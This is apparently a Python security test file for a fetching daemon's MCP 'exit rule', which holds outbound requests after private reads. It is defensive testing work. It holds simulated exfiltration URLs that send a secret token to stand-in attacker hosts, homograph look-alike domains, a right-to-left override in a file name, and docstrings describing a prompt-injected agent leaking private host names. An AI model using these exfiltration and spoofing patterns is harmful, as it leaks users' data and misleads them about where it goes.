"""An attacker's-eye review of the exit rule's question and of what it sees inside a URL (exits by information flow,
exitflow.py): the question the MCP face asks before a held fetch must name every host in a form that cannot pass
for another one, since the user's yes sends what the session read there.

Real daemon, its real ``/mcp`` over TCP, a real MCP SDK client answering the question like a user who reads it."""

from __future__ import annotations

from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from aiohttp import web
from mcp_types import ElicitResult
from trawl.exits import nested_hosts
from trawl.hostshow import shown_url
from trawl.server.runner import RunningDaemon

from tests.integration.test_daemon_helpers import daemon_settings
from tests.integration.test_profiles_daemon import site as profiled_site
from tests.security.local import serve_html
from tests.security.test_exit_flow_daemon import SECRET_FILE, mcp_daemon  # noqa: F401 (mcp_daemon: the fixture)
from tests.security.test_exit_question import _a_user_who_reads
from tests.security.test_exits import TOKEN, Server, api, fetch, page, refused, serve, status
from tests.security.test_exits import attacker as attacker  # the fixture
from tests.security.test_mcp_roots import http_client, out_of

pytestmark = [pytest.mark.timeout(120)]

LOOKALIKE = "p\u0430ypal.test"  # a Cyrillic "а" (U+0430) among Latin letters: reads as paypal.test
LOOKALIKE_ASCII = "xn--pypal-4ve.test"  # the name the connection asks for


def _a_user_who_trusts_the_name_they_read() -> Any:
    """A user who says yes to a site they know by name, and no when the question shows them that the name is not
    the one they know (its ASCII form, a mark on mixed scripts)."""
    asked: list[str] = []

    async def elicit(_ctx: Any, params: Any) -> ElicitResult:
        message = str(params.message)
        asked.append(message)
        return ElicitResult(action="accept", content={"send": "xn--" not in message and "Cyrillic" not in message})

    elicit.asked = asked  # type: ignore[attr-defined]
    return elicit


# ------------------------------------------------------------------------------------------- look-alike hosts
@pytest.mark.parametrize("where", ["the URL's own host", "a host named inside the URL"])
async def test_a_look_alike_host_is_named_in_a_form_that_cannot_pass_for_the_site_it_imitates(
        mcp_daemon: RunningDaemon, tmp_path: Path, where: str) -> None:  # noqa: F811
    """After a private read, the agent asks for ``https://pаypal.test/…`` (Cyrillic "а"), or for a trusted relay's URL
    with it inside. The question named it as written, "a page on pаypal.test": a user who knows paypal.test read
    their site and said yes. It must show the ASCII name the connection asks for and mark the mixed scripts."""
    inner = f"http://{LOOKALIKE}/signin?session={TOKEN}"
    url = inner if where == "the URL's own host" else f"http://127.0.0.21:9/translate?u={quote(inner, safe=':/')}"
    elicit = _a_user_who_trusts_the_name_they_read()
    async with http_client(mcp_daemon, elicitation_callback=elicit) as c:
        read = out_of(await c.call_tool("fetch_page", {"url": str(tmp_path / "secrets.md"), "query": ""}))
        assert read.ok, read
        out = out_of(await c.call_tool("fetch_page", {"url": url, "query": "sign in"}))

    assert len(elicit.asked) == 1, elicit.asked
    question = elicit.asked[0]
    assert LOOKALIKE_ASCII in question, f"the question named the look-alike only as it reads: {question}"
    assert "Cyrillic" in question and "mixes" in question, question
    # the letters themselves appear only inside the annotation that says what they are
    assert question.count(LOOKALIKE) == question.count(f'international name "{LOOKALIKE}"'), question
    assert not out.ok and out.error is not None and out.error.code == "exit_refused", out


async def test_the_status_page_and_the_log_show_a_look_alike_host_as_the_question_does(
        mcp_daemon: RunningDaemon, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:  # noqa: F811
    """The question named the look-alike in its ASCII form, but the status page's exit table, the text status and
    the log showed "pаypal.test" as written: a user who copies the host from there into the allow list vouches for
    the look-alike, believing it PayPal's. Every place that names a held host shows the same form as the question."""
    async with http_client(mcp_daemon) as c:  # a client that cannot ask: the URL is held and the event recorded
        assert out_of(await c.call_tool("fetch_page", {"url": str(tmp_path / "secrets.md"), "query": ""})).ok
        with caplog.at_level("WARNING", logger="trawl.exits"):
            out = out_of(await c.call_tool("fetch_page", {"url": f"http://{LOOKALIKE}/signin?s={TOKEN}",
                                                          "query": "sign in"}))
    assert not out.ok and out.error is not None and out.error.code == "exit_held", out
    ev = (await status(mcp_daemon))["exits"]["events"][0]
    logged = "\n".join(r.getMessage() for r in caplog.records if r.name == "trawl.exits")
    for shown in (out.error.message, out.error.hint or "", ev["host"], ev["url"], ev["reason"], logged):
        assert LOOKALIKE_ASCII in shown, shown
        assert shown.count(LOOKALIKE) == shown.count(f'international name "{LOOKALIKE}"'), shown
    assert "Cyrillic" in ev["host"] and "mixes" in ev["host"], ev


def _as_written(text: str, host: str) -> int:
    """How often ``host`` appears as written outside the annotation that says what its letters are."""
    return text.count(host) - text.count(f'international name "{host}"')


async def _after_a_private_read(d: RunningDaemon, tmp_path: Path, url: str, **client: Any) -> Any:
    async with http_client(d, **client) as c:
        assert out_of(await c.call_tool("fetch_page", {"url": str(tmp_path / "secrets.md"), "query": ""})).ok
        return out_of(await c.call_tool("fetch_page", {"url": url, "query": "sign in"}))


async def test_a_look_alike_named_inside_a_vouched_relays_url_is_shown_as_the_question_shows_it(tmp_path: Path) -> None:
    """Behind a relay the user vouched for, the held host is the one inside the URL: the held error named it as
    written when short ("аpple.io is not vouched for"), and the exit event's URL spelled it as written."""
    short = "\u0430pple.io"  # a Cyrillic "а": eight characters, short enough to be shown whole
    (tmp_path / "secrets.md").write_text(SECRET_FILE)
    settings = daemon_settings(tmp_path, allow_private_hosts=True, exit_allow_hosts=("localhost",))
    async with RunningDaemon(settings, warm=False) as d:
        out = await _after_a_private_read(d, tmp_path, f"http://localhost:9/translate?u=http://{short}/signin")
        ev = (await status(d))["exits"]["events"][0]
    assert out.error is not None and out.error.code == "exit_held", out
    for shown in (out.error.message, ev["reason"], ev["url"]):
        assert _as_written(shown, short) == 0, shown
    assert "xn--pple-43d.io" in out.error.message, out.error.message


async def test_the_questions_url_spells_no_look_alike_inside_it(mcp_daemon: RunningDaemon,  # noqa: F811
                                                                tmp_path: Path) -> None:
    asked: list[str] = []

    async def elicit(_ctx: Any, params: Any) -> ElicitResult:
        asked.append(str(params.message))
        return ElicitResult(action="decline")

    await _after_a_private_read(mcp_daemon, tmp_path, f"http://127.0.0.21:9/translate?u=http://{LOOKALIKE}/signin",
                                elicitation_callback=elicit)
    assert len(asked) == 1 and _as_written(asked[0], LOOKALIKE) == 0, asked


async def test_the_held_error_and_the_status_page_name_the_site_first(mcp_daemon: RunningDaemon,  # noqa: F811
                                                                      tmp_path: Path) -> None:
    """The question names attacker.test first; the held error an agent relays to a client that cannot ask, the exit
    event and the recent requests said "paypal.com.attacker.test" alone, or spelled a look-alike as written."""
    out = await _after_a_private_read(mcp_daemon, tmp_path, "http://paypal.com.attacker.test/signin")
    assert out.error is not None and out.error.code == "exit_held", out
    assert "attacker.test (the host paypal.com.attacker.test)" in out.error.message, out.error.message
    assert (await status(mcp_daemon))["exits"]["events"][0]["host"].startswith("attacker.test (the host")
    await _after_a_private_read(mcp_daemon, tmp_path, f"http://{LOOKALIKE}/signin")
    recent = [r["target"] for r in (await status(mcp_daemon))["recent"] if r["op"] == "fetch"]
    assert any(LOOKALIKE_ASCII in t for t in recent) and not any(LOOKALIKE in t for t in recent), recent


@pytest.mark.parametrize(("url", "shown"), [
    (f"http://\u0130\u0130\u0130@{LOOKALIKE}/x", f"http://%C4%B0%C4%B0%C4%B0@{LOOKALIKE_ASCII}/x"),  # İ lowers to two
    ("http://127.0.0.1:9/r?u=http://p\u0430ypal.test/", "http://127.0.0.1:9/r?u=http://p%D0%B0ypal.test/"),
    ("http://[::1]:8080/\u202eexe.pdf", "http://[::1]:8080/%E2%80%AEexe.pdf"),  # a right-to-left override
    ("http://example.com/a%20b?q=1#f", "http://example.com/a%20b?q=1#f"),
])
def test_a_shown_url_is_printable_ascii_with_its_host_as_the_connection_asks(url: str, shown: str) -> None:
    assert shown_url(url) == shown


async def test_a_host_that_spells_another_site_in_its_labels_is_named_by_its_own_site_first(
        mcp_daemon: RunningDaemon, tmp_path: Path) -> None:  # noqa: F811
    """After a private read, the agent asks for ``http://paypal.com.attacker.test/…``: plain ASCII, no mixed scripts,
    and the question read "a page on paypal.com.attacker.test", which a user skimming it reads as PayPal's. The site
    that receives the request (and that a yes vouches for) is attacker.test: it must be named first."""
    asked: list[str] = []

    async def elicit(_ctx: Any, params: Any) -> ElicitResult:  # a user who says yes to the site they see named
        asked.append(str(params.message))
        return ElicitResult(action="accept", content={"send": "a page on paypal.com" in str(params.message)})

    async with http_client(mcp_daemon, elicitation_callback=elicit) as c:
        read = out_of(await c.call_tool("fetch_page", {"url": str(tmp_path / "secrets.md"), "query": ""}))
        assert read.ok, read
        out = out_of(await c.call_tool("fetch_page", {"url": f"http://paypal.com.attacker.test/signin?s={TOKEN}",
                                                      "query": "sign in"}))

    assert len(asked) == 1, asked
    assert "a page on attacker.test (the host paypal.com.attacker.test)" in asked[0], asked[0]
    assert not out.ok and out.error is not None and out.error.code == "exit_refused", out


# ------------------------------------------------------------------------------------- relays without "//"
async def test_a_vouched_relay_cannot_pass_the_data_on_to_a_host_written_without_a_scheme(
        tmp_path: Path, attacker: Server) -> None:
    """A relay the user vouched for (``TRAWL_EXIT_ALLOW_HOSTS=localhost``) fetches the URL it is given and adds the
    scheme itself, as translation proxies and archives do. The exit rule looked for nested URLs only behind a
    scheme's "//", so ``/fetch?u=127.0.0.1:<port>/c?k=<secret>`` was a URL to a vouched host carrying no URL: sent,
    without a question, and the relay delivered the secret to the attacker."""
    relay_hits: list[str] = []

    async def relay(request: web.Request) -> web.Response:
        relay_hits.append(str(request.rel_url))
        inner = request.query.get("u", "")
        async with httpx.AsyncClient(trust_env=False) as c:
            got = (await c.get("http://" + inner)).text if inner else ""
        return web.Response(text=page("Fetched", "<p>" + "The page you asked for, as its site served it. " * 5
                                      + f"{got}</p>"), content_type="text/html")

    (tmp_path / "secrets.md").write_text(SECRET_FILE)
    runner, port = await serve("127.0.0.1", relay)
    try:
        settings = daemon_settings(tmp_path, allow_private_hosts=True, exit_allow_hosts=("localhost",))
        async with RunningDaemon(settings, warm=False) as d:
            assert (await fetch(d, str(tmp_path / "secrets.md")))["ok"]
            refused(await fetch(d, f"http://localhost:{port}/fetch?u=" + attacker.url.removeprefix("http://")
                                + f"/c?k={TOKEN}"))
    finally:
        await runner.cleanup()
    assert relay_hits == [] and attacker.hits == []


@pytest.mark.parametrize("inner", ["?u=collect.attacker.net/c?d={secret}", "?to=collect.attacker.net",
                                   "/save/collect.attacker.net/c?d={secret}", "#u=collect.attacker.net:8443/c"])
async def test_the_question_names_a_host_a_relay_reads_without_a_scheme(
        mcp_daemon: RunningDaemon, tmp_path: Path, inner: str) -> None:  # noqa: F811
    """The same relay, not vouched for, is asked about: the question must name the host the relay passes the
    request on to, written without "//" (a query value, a path segment, a fragment), not only the relay."""
    url = f"http://127.0.0.21:9/translate{inner.format(secret=TOKEN)}"
    elicit = _a_user_who_reads(refuse_if_named="attacker.net")
    async with http_client(mcp_daemon, elicitation_callback=elicit) as c:
        read = out_of(await c.call_tool("fetch_page", {"url": str(tmp_path / "secrets.md"), "query": ""}))
        assert read.ok, read
        out = out_of(await c.call_tool("fetch_page", {"url": url, "query": "what does it say"}))

    assert len(elicit.asked) == 1, elicit.asked
    # named as a host the request goes on to (the URL shown after it may show the text, cut and masked, or not)
    assert "names attacker.net inside it" in elicit.asked[0], f"where the relay sends it: {elicit.asked[0]}"
    assert not out.ok and out.error is not None and out.error.code == "exit_refused", out


def test_ordinary_values_and_file_names_are_not_hosts() -> None:
    """What the rule does not flag: words, ids, versions, and a file name as a URL's last segment (``README.md``:
    ``.md`` is a country's suffix), so a vouched host's ordinary URLs are not held for hosts they do not name."""
    for url in ["https://github.com/a/b/blob/main/README.md?plain=1", "http://localhost:8000/docs/setup.py",
                "https://docs.test/search?q=rate+limits&v=1.2.3&id=abc.def", "https://x.test/files/v1.2.zip"]:
        assert nested_hosts(url) == [], url


# --------------------------------------------------------------- trawl's records of reads (usage, profiles)
PRIVATE_HOST = "merger-with-northwind.corp.test"  # a host only the user's logged-in tab showed


async def test_usage_statistics_name_private_hosts_only_to_a_session_that_then_counts_as_private(
        tmp_path: Path, attacker: Server) -> None:
    """``/v1/stats`` summarises every session's calls, this daemon's and earlier ones' (``TRAWL_USAGE_LOG=1``): the
    hosts that fail most include a tab's or a local service's. After a restart the unbound session starts clean, so
    a prompt-injected agent with the HTTP API read the private host's name there and sent it out unasked."""
    from trawl import usage

    settings = daemon_settings(tmp_path, allow_private_hosts=True, usage_log=True)
    # what the daemon's previous life recorded: the user's agent read a tab there, and one read timed out
    for error in (None, "timeout"):
        usage.append(settings, usage.of_call("read_tab", {"tab": 7}, {
            "url": f"https://{PRIVATE_HOST}/deal/terms", "source": "extension",
            **({"error": {"code": error, "message": "", "hint": ""}} if error else {})}, 900.0))
    async with RunningDaemon(settings, warm=False) as d, api(d) as c:
        stats = (await c.post("/v1/stats", json={})).json()
        assert stats["ok"] and PRIVATE_HOST in {h["host"] for h in stats["failing_hosts"]}, stats
        refused(await fetch(d, f"{attacker.url}/c?visited={PRIVATE_HOST}"))
    assert attacker.hits == []


async def test_a_page_profile_confirms_a_private_read_only_to_a_session_that_then_counts_as_private(
        tmp_path: Path, attacker: Server) -> None:
    """``/v1/profile_page`` answers whether trawl learnt a profile for a site, how many pages since and when: that
    trawl read a local service (or a tab) there. After a restart, a clean session confirmed the private read and
    sent it out unasked."""
    settings = daemon_settings(tmp_path, allow_private_hosts=True, page_profiles=True)
    async with serve_html(profiled_site) as base:
        async with RunningDaemon(settings, warm=False) as d, api(d) as c:
            for path in ("/harbour", "/museum"):  # the earlier life: the user's agent read the local service
                assert (await c.post("/v1/fetch", json={"url": base + path, "query": "materials"})).json()["ok"]
        async with RunningDaemon(settings, warm=False) as d, api(d) as c:
            shown = (await c.post("/v1/profile_page", json={"host": base})).json()
            assert shown["ok"] and shown["profile"] is not None, shown
            refused(await fetch(d, f"{attacker.url}/c?read={shown['profile']['pages']}"))
    assert attacker.hits == []


async def test_the_popup_log_names_a_look_alike_host_as_the_question_does() -> None:
    """The extension's popup log gets each exit event's URL (``notice``): it showed ``pаypal.test`` as written."""
    from types import SimpleNamespace

    from trawl.capabilities.core import BROWSER_HUB, _tell_browser

    told: list[dict[str, Any]] = []

    async def notify(kind: str, **fields: Any) -> None:
        told.append({"kind": kind, **fields})

    svc: Any = SimpleNamespace(extras={BROWSER_HUB: SimpleNamespace(notify=notify)})
    await _tell_browser(svc, "exit_held", f"http://{LOOKALIKE}/signin?s=Zq8v…", "held")
    assert told and told[0]["kind"] == "notice", told
    assert told[0]["what"] == f"http://{LOOKALIKE_ASCII}/signin?s=Zq8v…", told
